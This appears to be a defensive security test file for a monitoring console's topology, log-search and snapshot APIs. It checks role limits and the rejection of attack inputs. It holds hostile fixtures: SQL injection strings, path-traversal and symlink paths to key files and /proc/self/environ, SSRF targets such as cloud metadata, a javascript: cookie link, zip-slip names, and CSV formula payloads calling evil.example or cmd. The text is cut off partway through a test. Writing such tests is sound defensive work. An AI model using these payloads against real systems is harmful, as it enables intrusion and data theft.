import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { Client, Pool } from 'pg';
import { hashPassword } from '../../gateway/src/core/auth/password';
import { FeatureService } from '../../gateway/src/core/features/feature.service';
import { GatewayProcess } from '../support/gateway-process';
import { startLokiPeer, type LokiPeer } from '../support/peers/loki-peer';
import { parseCsv, zipFiles } from '../support/snapshot-zip';
import { TestApp, type SignedInAgent } from '../support/test-app';
import { createTestDatabase, type TestDatabase } from '../support/test-db';
import { as, eventually, httpPeer } from '../api/playbooks/run-support';

/**
 * Topologies, log search and snapshots (issue 13) replayed by an attacker, each with the weakest role that could try
 * it: a viewer writing topologies or logging backends, an editor getting a script saved (exec lookups, inline exec
 * checks) or an admin's script removed, SQL through selectors, GET /api/topology and the postgres backend, files
 * outside LOG_FILE_ROOTS or in the data directory (links, globs, '..'), the console's own database, port and cloud
 * metadata as targets of backends and lookups, a connection's secret in answers, job history and snapshots, a regex
 * that backtracks, zip slip and CSV formulas in snapshots, and the console's own log. Each `it` holds today; each
 * `it.todo` is a hole still open: what should hold, what happens today, and a one-line repro.
 */
const SECRET = 'Loki-Pa55word-9931';
const KEY_MATERIAL = 'CONNECTION-KEY-MATERIAL-5521';
const OUTSIDE_TEXT = 'outside-the-roots-7781';

const execLookup = () => ({ name: 'scripted', lookup: { exec: [{ script: `echo '[]'`, display: { expr: 'stdout' } }] } });
const execInline = () => ({ name: 'probed', checks: [{ inline: { exec: [{ name: 'probe', script: 'id -u' }] } }] });
const execProperty = () => ({ name: 'measured', properties: [{ name: 'uid', lookup: { exec: [{ script: 'id -u', display: { expr: 'stdout' } }] } }] });

describe('topology and logs, attacked', () => {
  let t: TestApp;
  let admin: SignedInAgent;
  let editor: SignedInAgent;
  let viewer: SignedInAgent;
  let base: string;
  let root: string;
  let dataDir: string;
  let outside: string;
  let scratch: TestDatabase;
  let loki: LokiPeer;
  /** Answers every call; lookups of components, and the place a credential must never reach. */
  let peer: Awaited<ReturnType<typeof httpPeer>>;
  let other: Awaited<ReturnType<typeof httpPeer>>;
  /** Listens on the port the console is configured with (PORT): it stands in for the console's own API. */
  let consoleSelf: Awaited<ReturnType<typeof httpPeer>>;

  const count = async (sql: string, params: unknown[] = []) => (await t.pool.query<{ n: number }>(`SELECT (${sql})::int AS n`, params)).rows[0].n;
  const component = async (name: string, logs: unknown[] = [], extra: { parent?: string; path?: string } = {}) =>
    (
      await t.pool.query<{ id: string }>(`INSERT INTO components (name, type, logs, parent_id, path) VALUES ($1, 'Service', $2, $3, $4) RETURNING id`, [
        name,
        JSON.stringify(logs),
        extra.parent ?? null,
        extra.path ?? null,
      ])
    ).rows[0].id;
  const backend = (name: string, spec: unknown) => t.pool.query(`INSERT INTO logging_backends (name, spec) VALUES ($1, $2)`, [name, JSON.stringify(spec)]);
  const search = (body: object, who: SignedInAgent = viewer) => as(who).post('/api/logs', body);
  const save = async (who: SignedInAgent, name: string, spec: object) => (await as(who).post('/api/topologies', { name, spec }).expect(201)).body.id as string;
  const run = async (id: string) => (await as(admin).post(`/api/topologies/${id}/run`).expect(200)).body as { errors: string[]; job_history_id: string };
  const zipOf = async (who: SignedInAgent, id: string) => {
    const res = await who.agent.get(`/api/snapshot/topology/${id}`).responseType('blob').expect(200);
    return zipFiles(res.body as Buffer);
  };

  beforeAll(async () => {
    base = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'sec-topology-logs-')));
    root = path.join(base, 'root');
    dataDir = path.join(base, 'data');
    outside = path.join(base, 'outside');
    for (const dir of [root, outside, path.join(dataDir, 'logs')]) fs.mkdirSync(dir, { recursive: true });
    fs.writeFileSync(path.join(dataDir, 'connection.key'), `${KEY_MATERIAL}\n`);
    fs.writeFileSync(path.join(outside, 'secret.log'), `${OUTSIDE_TEXT}\n`);
    fs.symlinkSync(path.join(dataDir, 'connection.key'), path.join(root, 'key.log'));
    fs.symlinkSync(outside, path.join(root, 'elsewhere'));
    fs.writeFileSync(path.join(root, 'app.log'), `${'a'.repeat(32)}!\n`);

    scratch = await createTestDatabase('sec_logs');
    const client = new Client({ connectionString: scratch.url });
    await client.connect();
    await client.query(`CREATE TABLE app_logs (at timestamptz NOT NULL, body text NOT NULL, app text NOT NULL)`);
    await client.query(
      `INSERT INTO app_logs VALUES (now() - interval '1 minute', 'order placed', 'shop'), (now() - interval '2 minutes', 'refund issued', 'billing')`,
    );
    await client.end();

    loki = await startLokiPeer({ auth: { username: 'svc', password: SECRET } });
    // A line that carries the credential (an app logging its own connection string): it must come back redacted.
    loki.push({ app: 'shop' }, [[new Date(Date.now() - 60_000), `connecting with svc:${SECRET}`]]);
    peer = await httpPeer((hit) => {
      if (hit.url === '/echo') return { status: 200, body: { items: [{ name: String(hit.headers['x-key'] ?? 'none') }] } };
      if (hit.url === '/components')
        return {
          status: 200,
          body: {
            items: [
              {
                name: 'from-data',
                lookup: { exec: [{ script: 'id -u', display: { expr: 'stdout' } }] },
                checks: [{ inline: { exec: [{ name: 'planted', script: 'id -u' }] } }],
                properties: [
                  { name: 'uid', lookup: { exec: [{ script: 'id -u', display: { expr: 'stdout' } }] } },
                  { name: 'docs', links: [{ url: 'javascript:alert(document.cookie)' }, { url: 'https://docs.example/ok' }] },
                ],
                components: [{ name: 'nested', lookup: { exec: [{ script: 'id -u', display: { expr: 'stdout' } }] } }],
              },
            ],
          },
        };
      return undefined;
    });
    other = await httpPeer();
    consoleSelf = await httpPeer();

    t = await TestApp.start({
      // The data directory is a root here (an administrator may list it): still only its logs folder is readable.
      LOG_FILE_ROOTS: `${root},${dataDir}`,
      DATA_DIR: dataDir,
      PORT: new URL(consoleSelf.url).port,
      // The scratch database by the name 'localhost' only: 127.0.0.1:5432 stays the console's own database server.
      OUTBOUND_ALLOW: 'localhost:5432',
      LOGS_TIMEOUT_MS: '5000',
      EXPRESSION_TIMEOUT_MS: '300',
      TOPOLOGY_SCHEDULER: 'false',
      HEALTH_SCHEDULER: 'false',
      TOPOLOGY_ROLLUP_TICK_MS: '60000',
    });
    [admin, editor, viewer] = await Promise.all([t.signInAs(['admin']), t.signInAs(['editor']), t.signInAs(['viewer'])]);
    await as(admin).post('/api/connections', { name: 'loki', type: 'http', url: loki.url, username: 'svc', password: SECRET }).expect(201);
    await as(admin).post('/api/connections', { name: 'peer', type: 'http', url: peer.url, password: SECRET }).expect(201);
  });
  afterAll(async () => {
    await t?.stop();
    await scratch?.drop();
    await Promise.all([loki?.stop(), peer?.close(), other?.close(), consoleSelf?.close()]);
    if (base) fs.rmSync(base, { recursive: true, force: true });
  });

  describe('who may write topologies and logging backends', () => {
    it('a viewer cannot write a topology, a component, a link or a logging backend by any route; nothing changes', async () => {
      const id = await save(admin, 'viewer-target', { components: [{ name: 'a' }] });
      const componentId = await component('viewer-component');
      const before = await count(`SELECT count(*) FROM topologies`);
      const backends = await count(`SELECT count(*) FROM logging_backends`);
      await as(viewer)
        .post('/api/topologies', { name: 'by-viewer', spec: { components: [{ name: 'a' }] } })
        .expect(403);
      await as(viewer)
        .put(`/api/topologies/${id}`, { name: 'viewer-target', spec: { components: [{ name: 'b' }] } })
        .expect(403);
      await as(viewer).delete(`/api/topologies/${id}`).expect(403);
      await as(viewer).post(`/api/topologies/${id}/run`).expect(403);
      await as(viewer)
        .post('/api/db/topologies', { name: 'by-viewer', spec: { components: [{ name: 'a' }] } })
        .expect(403);
      await as(viewer)
        .patch(`/api/db/topologies?id=eq.${id}`, { spec: { components: [{ name: 'b' }] } })
        .expect(403);
      await as(viewer).delete(`/api/db/topologies?id=eq.${id}`).expect(403);
      await as(viewer)
        .patch(`/api/db/components?id=eq.${componentId}`, { logs: [{ name: 'x', backend: 'y' }] })
        .expect(403);
      await as(viewer).post('/api/db/component_relationships', { component_id: componentId, relationship_id: componentId }).expect(403);
      await as(viewer)
        .post('/api/db/logging_backends', { name: 'by-viewer', spec: { file: { path: 'app.log' } } })
        .expect(403);
      expect(await count(`SELECT count(*) FROM topologies`)).toBe(before);
      expect(await count(`SELECT count(*) FROM logging_backends`)).toBe(backends);
      expect((await t.pool.query(`SELECT spec FROM topologies WHERE id = $1 AND deleted_at IS NULL`, [id])).rows[0].spec).toEqual({
        components: [{ name: 'a' }],
      });
      expect((await t.pool.query(`SELECT logs FROM components WHERE id = $1`, [componentId])).rows[0].logs).toEqual([]);
    });

    it('an editor cannot save a script by any route: exec lookups, property lookups and inline checks, POST or the data API', async () => {
      const before = await count(`SELECT count(*) FROM topologies`);
      for (const spec of [{ components: [execLookup()] }, { components: [execInline()] }, { components: [execProperty()] }, execLookup()]) {
        const res = await as(editor).post('/api/topologies', { name: 'by-editor', spec }).expect(403);
        expect(res.body.message).toMatch(/Only administrators .* \(exec\)/);
        await as(editor).post('/api/db/topologies', { name: 'by-editor', spec }).expect(403);
      }
      const yaml = `apiVersion: canaries.flanksource.com/v1\nkind: Topology\nmetadata:\n  name: by-editor\nspec:\n  components:\n    - name: x\n      lookup:\n        exec:\n          - script: id -u\n            display:\n              expr: stdout\n`;
      await as(editor).post('/api/topologies', { yaml }).expect(403);
      // Their own topology, given a script afterwards.
      const own = await save(editor, 'editor-own', { components: [{ name: 'a' }] });
      await as(editor)
        .put(`/api/topologies/${own}`, { name: 'editor-own', spec: { components: [execInline()] } })
        .expect(403);
      await as(editor)
        .patch(`/api/db/topologies?id=eq.${own}`, { spec: { components: [execProperty()] } })
        .expect(403);
      expect(await count(`SELECT count(*) FROM topologies`)).toBe(before + 1);
      expect((await t.pool.query(`SELECT spec FROM topologies WHERE id = $1`, [own])).rows[0].spec).toEqual({ components: [{ name: 'a' }] });
    });

    it("an editor cannot change or delete an administrator's topology that runs a script through the API or a data-API write that keeps it", async () => {
      const spec = { components: [execLookup(), execInline()] };
      const id = await save(admin, 'admin-scripted', spec);
      await as(editor)
        .put(`/api/topologies/${id}`, { name: 'admin-scripted', spec: { components: [{ name: 'plain' }] } })
        .expect(403);
      await as(editor).delete(`/api/topologies/${id}`).expect(403);
      await as(editor).patch(`/api/db/topologies?id=eq.${id}`, { name: 'renamed-by-editor' }).expect(403);
      await as(editor).patch(`/api/db/topologies?id=eq.${id}`, { deleted_at: new Date().toISOString() }).expect(403);
      const row = (await t.pool.query(`SELECT name, spec, deleted_at FROM topologies WHERE id = $1`, [id])).rows[0];
      expect(row).toEqual({ name: 'admin-scripted', spec, deleted_at: null });
    });

    it("an editor cannot remove an administrator's exec lookup through the data API (the replaced spec is judged too)", async () => {
      const spec = { components: [execLookup()] };
      const id = await save(admin, 'admin-scripted-2', spec);
      await as(editor)
        .patch(`/api/db/topologies?id=eq.${id}`, { spec: { components: [{ name: 'plain' }] } })
        .expect(403);
      expect((await t.pool.query(`SELECT spec FROM topologies WHERE id = $1`, [id])).rows[0].spec).toEqual(spec);
    });

    it("an editor cannot delete an administrator's exec topology through the data API; an admin's DELETE there is soft and takes the owned canaries", async () => {
      const id = await save(admin, 'admin-scripted-3', { components: [execInline()] });
      await as(admin).post(`/api/topologies/${id}/run`).expect(200);
      expect(await count(`SELECT count(*) FROM canaries WHERE source = 'topology/${id}' AND deleted_at IS NULL`)).toBe(1);
      await as(editor).delete(`/api/db/topologies?id=eq.${id}`).expect(403);
      expect((await t.pool.query(`SELECT deleted_at FROM topologies WHERE id = $1`, [id])).rows[0].deleted_at).toBeNull();
      await as(admin).delete(`/api/db/topologies?id=eq.${id}`).expect(204);
      expect((await t.pool.query(`SELECT deleted_at FROM topologies WHERE id = $1`, [id])).rows[0].deleted_at).not.toBeNull();
      expect(await count(`SELECT count(*) FROM canaries WHERE source = 'topology/${id}' AND deleted_at IS NULL`)).toBe(0);
    });

    it('what a lookup answers never runs: lookups, property lookups, inline checks and nested lookups in the data are dropped, links kept http(s) only', async () => {
      const id = await save(editor, 'data-fed', {
        components: [{ name: 'fed', lookup: { http: [{ url: `${peer.url}/components`, display: { jsonPath: '$.json.items' } }] } }],
      });
      const result = await run(id);
      expect(result.errors).toEqual([]);
      const rows = (
        await t.pool.query<{ name: string; properties: { name: string; links?: { url: string }[]; value?: unknown; text?: unknown }[] }>(
          `SELECT name, properties FROM components WHERE topology_id = $1 AND deleted_at IS NULL ORDER BY name`,
          [id],
        )
      ).rows;
      expect(rows.map((r) => r.name)).toEqual(['data-fed', 'fed', 'from-data', 'nested']);
      const fromData = rows.find((r) => r.name === 'from-data')!;
      expect(fromData.properties).toEqual([{ name: 'uid' }, { name: 'docs', links: [{ url: 'https://docs.example/ok' }] }]);
      expect(await count(`SELECT count(*) FROM canaries WHERE source = $1`, [`topology/${id}`])).toBe(0);
      expect(await count(`SELECT count(*) FROM checks WHERE type = 'exec' AND name = 'planted'`)).toBe(0);
    });

    it('the topology and logs feature switches hold on every route, the data API and the snapshot included', async () => {
      const componentId = await component('switched', [{ name: 'app', backend: 'nowhere' }]);
      try {
        await t.pool.query(`INSERT INTO properties (name, value) VALUES ('topology.disable', 'true'), ('logs.disable', 'true')`);
        t.app.get(FeatureService).invalidate();
        await viewer.agent.get('/api/topology').expect(403);
        await viewer.agent.get(`/api/snapshot/topology/${componentId}`).expect(403);
        await viewer.agent.get('/api/db/components?select=id').expect(403);
        await viewer.agent.get('/api/db/topologies?select=id').expect(403);
        await as(editor)
          .post('/api/topologies', { name: 'while-off', spec: { components: [{ name: 'a' }] } })
          .expect(403);
        await as(editor)
          .post('/api/db/topologies', { name: 'while-off', spec: { components: [{ name: 'a' }] } })
          .expect(403);
        await search({ id: componentId }).expect(403);
        await viewer.agent.get('/api/logs/components').expect(403);
        await as(editor)
          .post('/api/db/logging_backends', { name: 'while-off', spec: { file: { path: 'app.log' } } })
          .expect(403);
        expect(await count(`SELECT count(*) FROM topologies WHERE name = 'while-off'`)).toBe(0);
      } finally {
        await t.pool.query(`DELETE FROM properties WHERE name IN ('topology.disable', 'logs.disable')`);
        t.app.get(FeatureService).invalidate();
      }
    });

    it('anonymous callers get nothing', async () => {
      const componentId = await component('anonymous-target');
      await t.http().get('/api/topology').expect(401);
      await t.http().get(`/api/snapshot/topology/${componentId}`).expect(401);
      await t.http().get('/api/logs/components').expect(401);
      await t.http().post('/api/logs').send({ id: componentId }).expect(401);
    });
  });

  describe('SQL from what a user writes', () => {
    it('GET /api/topology takes hostile id, labels, sortBy, status, type and team as data: no 5xx, no SQL in answers, nothing changed', async () => {
      await component('sql-target');
      const rows = await count(`SELECT count(*) FROM components`);
      const hostile = ["x' OR '1'='1", "'; DROP TABLE components; --", 'name) FROM pg_shadow --', '%', '\\', '$1', '" OR ""="'];
      for (const value of hostile) {
        for (const param of ['id', 'agent_id', 'labels', 'sortBy', 'sortOrder', 'status', 'type', 'team', 'flatten', 'hidden']) {
          const res = await viewer.agent.get('/api/topology').query({ [param]: value });
          expect(res.status).toBeLessThan(500);
          // The caller's own text may come back in a 400; what must not is the database's (its errors, its rows).
          expect(JSON.stringify(res.body)).not.toMatch(/syntax error|at character|SQLSTATE|relation "|\$argon2/);
        }
        const res = await viewer.agent.get('/api/topology').query({ labels: `${value}=${value}` });
        expect(res.status).toBe(200);
        expect(res.body.components).toEqual([]);
      }
      expect(await count(`SELECT count(*) FROM components`)).toBe(rows);
    });

    it('selectors are parameters: hostile names match nothing, hostile label selectors are refused, LIKE wildcards are literal', async () => {
      const canary = (await t.pool.query<{ id: string }>(`INSERT INTO canaries (name, spec) VALUES ('sql-canary', '{}') RETURNING id`)).rows[0].id;
      for (const name of ['pay_%', 'payments', "x' OR '1'='1"])
        await t.pool.query(`INSERT INTO checks (canary_id, type, name, labels) VALUES ($1, 'http', $2, '{"app": "shop"}')`, [canary, name]);
      const refused = await as(editor)
        .post('/api/topologies', { name: 'sql-refused', spec: { components: [{ name: 'a', checks: [{ labelSelector: "app=shop' OR '1'='1" }] }] } })
        .expect(400);
      expect(refused.body.message).toMatch(/labelSelector/);
      const id = await save(editor, 'sql-selectors', {
        components: [
          { name: 'quoted', checks: [{ name: "x' OR 1=1 --" }] },
          { name: 'wild', checks: [{ name: 'pay_%*' }] },
        ],
      });
      await run(id);
      const linked = await t.pool.query<{ component: string; check: string }>(
        `SELECT c.name AS component, k.name AS check FROM check_component_relationships r JOIN components c ON c.id = r.component_id
          JOIN checks k ON k.id = r.check_id WHERE c.topology_id = $1 ORDER BY 1, 2`,
        [id],
      );
      expect(linked.rows).toEqual([{ component: 'wild', check: 'pay_%' }]);
    });

    it('the postgres backend binds the search, the selector query and its labels: nothing the searcher writes becomes SQL', async () => {
      await backend('scratch-pg', {
        postgres: {
          connection: `postgres://postgres@localhost:5432/${scratch.name}`,
          table: 'app_logs',
          timeColumn: 'at',
          messageColumn: 'body',
          labelColumns: ['app'],
        },
      });
      const id = await component('pg-logs', [
        { name: 'all', backend: 'scratch-pg' },
        { name: 'hostile-label', backend: 'scratch-pg', labels: { app: "shop' OR '1'='1" } },
        { name: 'unknown-label', backend: 'scratch-pg', labels: { 'app" = app OR "1': '1' } },
      ]);
      const messages = async (body: object) =>
        ((await search({ id, start: 'now-1h', ...body }).expect(200)).body.results as { message: string }[]).map((l) => l.message);
      expect(await messages({ name: 'all' })).toEqual(['order placed', 'refund issued']);
      for (const query of ["' OR '1'='1", "%' OR body ILIKE '%", '%', '_', "'); SELECT pg_sleep(10); --"])
        expect(await messages({ name: 'all', query })).toEqual([]);
      expect(await messages({ name: 'hostile-label' })).toEqual([]);
      const res = await search({ id, name: 'unknown-label' }).expect(400);
      expect(res.body.message).toMatch(/not one of the backend's labelColumns/);
    });
  });

  describe('files the file backend may read', () => {
    const saveBackend = (name: string, spec: object) => as(editor).post('/api/db/logging_backends', { name, spec: { file: spec } });

    it("refuses, when saved, paths outside LOG_FILE_ROOTS, in the data directory (but its logs folder), with '..', or through a link", async () => {
      const before = await count(`SELECT count(*) FROM logging_backends`);
      for (const file of [
        path.join(outside, 'secret.log'),
        path.join(dataDir, 'connection.key'),
        path.join(dataDir, '*'),
        `${root}/../outside/secret.log`,
        `${root}/*/../../data/connection.key`,
        path.join(root, 'key.log'),
        path.join(root, 'elsewhere', 'secret.log'),
        path.join(root, 'elsewhere', '*'),
        '/proc/self/environ',
      ]) {
        const res = await saveBackend('refused', { path: file }).expect(400);
        expect(res.body.details.problems[0]).toMatch(/outside the folders|data directory|'\.\.' is not allowed/);
      }
      expect(await count(`SELECT count(*) FROM logging_backends`)).toBe(before);
      await saveBackend('console-logs', { path: path.join(dataDir, 'logs', '*.log') }).expect(201);
    });

    it('judges every file again when it is read: a link planted below a root, a linked folder and braces give nothing outside', async () => {
      await backend('glob-all', { file: { path: [`${root}/*`, `${root}/*/*`, `${root}/{x,..}/outside/*`] } });
      // Written straight into the table (an older version's row, or a link planted after the save): judged when searched.
      await backend('direct-key', { file: { path: path.join(root, 'key.log') } });
      const id = await component('file-logs', [
        { name: 'all', backend: 'glob-all' },
        { name: 'direct', backend: 'direct-key' },
      ]);
      const all = await search({ id, name: 'all', start: 'now-1h' }).expect(200);
      // The globs walk no link and leave no root: only the plain file below the root is read.
      expect([...new Set(all.body.results.map((l: { labels: { file: string } }) => l.labels.file))]).toEqual([path.join(root, 'app.log')]);
      const direct = await search({ id, name: 'direct', start: 'now-1h' }).expect(400);
      // Judged again before the search (the row's spec) and, for a glob, file by file as it is read.
      expect(['invalid_logging_backend', 'log_file_refused']).toContain(direct.body.code);
      expect(direct.body.message).toContain("is in the console's data directory");
      for (const res of [all, direct]) {
        expect(JSON.stringify(res.body)).not.toContain(KEY_MATERIAL);
        expect(JSON.stringify(res.body)).not.toContain(OUTSIDE_TEXT);
      }
    });

    it("stops a pattern that backtracks in the bounded evaluator: the search fails naming the pattern, the gateway's loop is not held", async () => {
      await backend('redos', { file: { path: path.join(root, 'app.log'), format: 'text', pattern: '^(?<message>(a|a)+)$' } });
      const id = await component('redos-logs', [{ name: 'app', backend: 'redos' }]);
      const res = await search({ id, start: 'now-1h', query: 'a' });
      expect(res.status).toBe(502);
      expect(res.body.message).toMatch(/pattern: could not be applied/);
    });
  });

  describe("the console's own database, port and cloud metadata as targets", () => {
    it("a postgres backend cannot reach the console's database, by any name or by ?host=", async () => {
      const targets = [
        `postgres://postgres@127.0.0.1:5432/${t.db.name}`,
        `postgres://postgres@127.0.0.2:5432/${t.db.name}`,
        `postgres://postgres@[::ffff:127.0.0.1]:5432/${t.db.name}`,
        `postgres://postgres@db.invalid:5432/${t.db.name}?host=127.0.0.1`,
      ];
      const logs = targets.map((_, i) => ({ name: `db-${i}`, backend: `console-db-${i}` }));
      for (const [i, connection] of targets.entries())
        await backend(`console-db-${i}`, {
          postgres: { connection, query: 'SELECT now() AS at, password_hash AS body FROM people', timeColumn: 'at', messageColumn: 'body' },
        });
      const id = await component('console-db', logs);
      for (const { name } of logs) {
        const res = await search({ id, name });
        expect(res.status).toBe(400);
        expect(res.body.message).toMatch(/not reachable from log backends: it is this console's database|must name a network host/);
        expect(JSON.stringify(res.body)).not.toMatch(/\$argon2/);
      }
    });

    it("loki and opensearch backends cannot call the console's own port or cloud metadata", async () => {
      await backend('loki-self', { loki: { url: consoleSelf.url, selector: '{app="shop"}' } });
      await backend('opensearch-metadata', { opensearch: { url: 'http://169.254.169.254', index: 'logs' } });
      const id = await component('self-targets', [
        { name: 'self', backend: 'loki-self' },
        { name: 'metadata', backend: 'opensearch-metadata' },
      ]);
      for (const name of ['self', 'metadata']) {
        const res = await search({ id, name });
        expect(res.status).toBe(400);
        expect(res.body.message).toMatch(/is not reachable from log backends: it is (this console|a cloud metadata address)/);
      }
      expect(consoleSelf.hits).toEqual([]);
    });

    it("topology lookups cannot call the console's own port or database either; the run names the refusal", async () => {
      const id = await save(editor, 'self-lookups', {
        components: [
          { name: 'self', lookup: { http: [{ url: `${consoleSelf.url}/api/auth/me`, display: { expr: 'json' } }] } },
          {
            name: 'db',
            lookup: {
              postgres: [
                { connection: `postgres://postgres@127.0.0.1:5432/${t.db.name}`, query: 'SELECT email AS name FROM people', display: { expr: 'rows' } },
              ],
            },
          },
        ],
      });
      const result = await run(id);
      expect(result.errors.join('\n')).toMatch(/this console\b/);
      expect(result.errors.join('\n')).toMatch(/this console's database/);
      expect(consoleSelf.hits).toEqual([]);
      expect(await count(`SELECT count(*) FROM components WHERE topology_id = $1 AND name LIKE '%@%'`, [id])).toBe(0);
    });
  });

  describe("a connection's secret", () => {
    const lokiSpec = (url: string) => ({
      loki: { url, username: 'svc', password: { valueFrom: { secretKeyRef: { name: 'loki', key: 'password' } } }, selector: '{app="shop"}' },
    });

    it('is redacted from the lines answered, as JSON and as NDJSON, and from the snapshot', async () => {
      await backend('loki-good', lokiSpec(loki.url));
      const id = await component('loki-logs', [{ name: 'loki', backend: 'loki-good' }]);
      const json = await search({ id, start: 'now-1h' }).expect(200);
      expect(json.body.results.map((l: { message: string }) => l.message)).toEqual(['connecting with svc:***']);
      const ndjson = await as(viewer)
        .post('/api/logs', { id, start: 'now-1h' })
        .set('Accept', 'application/x-ndjson')
        .buffer(true)
        .parse((res, done) => {
          let text = '';
          res.on('data', (chunk: Buffer) => (text += chunk.toString('utf8')));
          res.on('end', () => done(null, text));
        });
      expect(ndjson.status).toBe(200);
      expect(ndjson.body).toContain('connecting with svc:***');
      expect(ndjson.body).not.toContain(SECRET);
      const zip = await zipOf(viewer, id);
      expect(Object.keys(zip)).toContain('logs/loki-logs-loki.json');
      for (const text of Object.values(zip)) expect(text).not.toContain(SECRET);
    });

    it("is sent only to its connection's origin: a backend pointing elsewhere is refused before anything is sent", async () => {
      await backend('loki-stolen', lokiSpec(other.url));
      const id = await component('loki-stolen', [{ name: 'loki', backend: 'loki-stolen' }]);
      const res = await search({ id });
      expect(res.status).toBe(400);
      expect(res.body.code).toBe('outbound_refused');
      expect(JSON.stringify(res.body)).not.toContain(SECRET);
      expect(other.hits).toEqual([]);
    });

    it('never reaches a component, a run answer or job history through a lookup, whether the call is allowed or refused', async () => {
      const header = { name: 'X-Key', valueFrom: { secretKeyRef: { name: 'peer', key: 'password' } } };
      const id = await save(editor, 'secret-lookups', {
        components: [
          { name: 'echoed', lookup: { http: [{ url: `${peer.url}/echo`, headers: [header], display: { jsonPath: '$.json.items' } }] } },
          { name: 'stolen', lookup: { http: [{ url: `${other.url}/steal`, headers: [header], display: { jsonPath: '$.json.items' } }] } },
        ],
      });
      const result = await run(id);
      expect(result.errors.join('\n')).toMatch(/the credential from connection 'peer' may only be sent to/);
      expect(JSON.stringify(result)).not.toContain(SECRET);
      expect(other.hits).toEqual([]);
      const names = (await t.pool.query<{ name: string }>(`SELECT name FROM components WHERE topology_id = $1 AND deleted_at IS NULL`, [id])).rows.map(
        (r) => r.name,
      );
      expect(names.sort()).toEqual(['***', 'echoed', 'secret-lookups', 'stolen']);
      const history = await t.pool.query(`SELECT details FROM job_history WHERE id = $1`, [result.job_history_id]);
      expect(JSON.stringify(history.rows)).not.toContain(SECRET);
      expect(JSON.stringify((await viewer.agent.get('/api/topology?flatten=true').expect(200)).body)).not.toContain(SECRET);
    });
  });

  describe('snapshots', () => {
    it('names every file in the archive inside it: no zip slip from component or selector names', async () => {
      await backend('slip-files', { file: { path: path.join(dataDir, 'logs', '*.log') } });
      fs.writeFileSync(path.join(dataDir, 'logs', 'slip.log'), `${JSON.stringify({ time: Date.now() - 1000, msg: 'hello' })}\n`);
      const top = await component('../../../../tmp/evil', [{ name: '../../etc/cron.d/x', backend: 'slip-files' }]);
      await component('/absolute\\windows\\..\\..\\x', [{ name: '..', backend: 'slip-files' }], { parent: top, path: top });
      const zip = await zipOf(viewer, top);
      const names = Object.keys(zip);
      expect(names.filter((n) => n.startsWith('logs/'))).toHaveLength(2);
      for (const name of names) {
        expect(name.split('/')).not.toContain('..');
        expect(name).not.toMatch(/^[/\\]|\\|^[A-Za-z]:/);
      }
    });

    it('writes no cell a spreadsheet would run as a formula (= + - @, tab, CR at the start)', async () => {
      const formulas = [
        '=HYPERLINK("http://evil.example/?"&A1,"open")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '\t=1+1',
      ];
      const top = await component(formulas[0]);
      for (const name of formulas.slice(1)) await component(name, [], { parent: top, path: top });
      const csv = (await zipOf(viewer, top))['components.csv'];
      const [header, ...rows] = parseCsv(csv);
      const cells = rows.map((row) => row[header.indexOf('name')]);
      expect(cells).toHaveLength(formulas.length);
      for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      // The names themselves are kept (components.json has them exactly).
      expect(cells.map((cell) => cell.replace(/^'/, '')).sort()).toEqual([...formulas].sort());
    });

    it('bounds the log searches one snapshot makes: at most 20 selectors, the rest named in its README', async () => {
      const top = await component('many-logs-top');
      for (let i = 0; i < 24; i++) await component(`many-logs-${i}`, [{ name: 'app', backend: 'no-such-backend' }], { parent: top, path: top });
      const files = await zipOf(viewer, top);
      const readme = files['README.md'];
      // Each selector read is listed (here: failed, the backend does not exist); the other 4 are not searched at all.
      expect(readme.match(/\*\*failed\*\*/g)).toHaveLength(20);
      expect(readme).toContain('4 more log selector(s) of the subtree were not read: a snapshot reads at most 20');
    });
  });

  describe('bounds', () => {
    it('refuses label selectors, name wildcards, documents and searches past their limits before any work', async () => {
      const spec = (selector: object) => ({ components: [{ name: 'a', checks: [selector] }] });
      const long = Array.from({ length: 700 }, (_, i) => `k${i}=v`).join(',');
      expect(
        (
          await as(editor)
            .post('/api/topologies', { name: 'bounds', spec: spec({ labelSelector: long }) })
            .expect(400)
        ).body.message,
      ).toMatch(/at most 2000/);
      expect(
        (
          await as(editor)
            .post('/api/topologies', { name: 'bounds', spec: spec({ name: '*a*a*a*a*a*a*a*a*a*' }) })
            .expect(400)
        ).body.message,
      ).toMatch(/at most 8 '\*'/);
      const many = { components: Array.from({ length: 2_001 }, (_, i) => ({ name: `c${i}` })) };
      expect((await as(editor).post('/api/topologies', { name: 'bounds', spec: many }).expect(400)).body.message).toMatch(/at most 2000 components/);
      let deep: Record<string, unknown> = { name: 'leaf' };
      for (let i = 0; i < 10; i++) deep = { name: `level-${i}`, components: [deep] };
      expect(
        (
          await as(editor)
            .post('/api/topologies', { name: 'bounds', spec: { components: [deep] } })
            .expect(400)
        ).body.message,
      ).toMatch(/at most 8 levels/);
      const id = await component('bounded-search', [{ name: 'app', backend: 'glob-all' }]);
      await search({ id, limit: 5_001 }).expect(400);
      await search({ id, query: 'x'.repeat(1_001) }).expect(400);
      expect(await count(`SELECT count(*) FROM topologies WHERE name = 'bounds'`)).toBe(0);
    });

    it('ends a streamed search at LOGS_TIMEOUT_MS even when the client stops reading: the backend lets go of its files', async () => {
      const big = path.join(root, 'big.log');
      // 5,000 lines of 4 KB: more than the loopback socket's buffers hold, so the server must wait for the reader.
      const line = `{"time":${Date.now()},"level":30,"msg":"${'x'.repeat(4_000)}"}\n`;
      fs.writeFileSync(big, line.repeat(6_000));
      await backend('big-file', { file: { path: big } });
      const id = await component('paused-reader', [{ name: 'app', backend: 'big-file' }]);
      const opened = () =>
        fs.readdirSync('/proc/self/fd').filter((fd) => {
          try {
            return fs.readlinkSync(`/proc/self/fd/${fd}`) === big;
          } catch {
            return false;
          }
        }).length;
      const server = t.app.getHttpServer() as import('node:http').Server;
      if (!server.listening) await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      const port = (server.address() as import('node:net').AddressInfo).port;
      const body = JSON.stringify({ id, limit: 5_000, start: 'now-1d' });
      const cookie = viewer.agent.jar.getCookies({ domain: '127.0.0.1', path: '/', secure: false, script: false }).toValueString();
      const req = (await import('node:http')).request({
        host: '127.0.0.1',
        port,
        path: '/api/logs',
        method: 'POST',
        headers: {
          'content-type': 'application/json',
          accept: 'application/x-ndjson',
          'x-csrf-token': viewer.csrf,
          cookie,
